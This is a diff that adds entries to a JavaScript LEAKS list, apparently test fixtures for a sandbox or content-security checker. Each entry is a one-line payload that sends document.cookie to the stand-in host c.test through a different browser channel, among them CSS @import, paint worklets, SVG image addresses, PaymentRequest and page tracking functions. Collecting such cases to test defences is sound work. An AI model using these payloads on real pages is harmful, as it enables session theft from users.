@@ -35,6 +35,31 @@ const LEAKS = [
 		"a socket of streams",
 		`(async () => { const { writable } = await new WebSocketStream("wss://c.test/").opened; writable.getWriter().write(document.cookie) })()`,
 	],
+	["the module of a worklet", `CSS.paintWorklet.addModule("https://c.test/?" + document.cookie)`],
+	["a member that nobody knows", `document.createElement("a").attributionSrc = "https://c.test/?" + document.cookie`],
+	[
+		"an animated address",
+		`const s = document.createElementNS("http://www.w3.org/2000/svg", "image"); s.href.baseVal = "https://c.test/?" + document.cookie`,
+	],
+	["a rule of a sheet", `new CSSStyleSheet().insertRule("@import url(https://c.test/?" + document.cookie + ")")`],
+	[
+		"a rule that is there",
+		`document.styleSheets[0].cssRules[0].style.background = "url(https://c.test/?" + document.cookie + ")"`,
+	],
+	[
+		"text put into a style",
+		`const s = document.createElement("style"); s.append("@import 'https://c.test/?" + document.cookie + "'")`,
+	],
+	[
+		"a fragment of markup",
+		`new Range().createContextualFragment("<img src='https://c.test/?" + document.cookie + "'>")`,
+	],
+	[
+		"the address of a payment method",
+		`new PaymentRequest([{ supportedMethods: "https://c.test/?" + document.cookie }], {}).canMakePayment()`,
+	],
+	["a function of the page", `window.track("https://c.test/?c=" + document.cookie)`],
+	["a list for a function of the page", `window.preload({ urls: ["https://c.test/?c=" + document.cookie] })`],
 	[
 		"a custom property as carrier",
 		`document.body.style.setProperty("--a", document.cookie); fetch("https://c.test/?" + getComputedStyle(document.body).getPropertyValue("--a"))`,
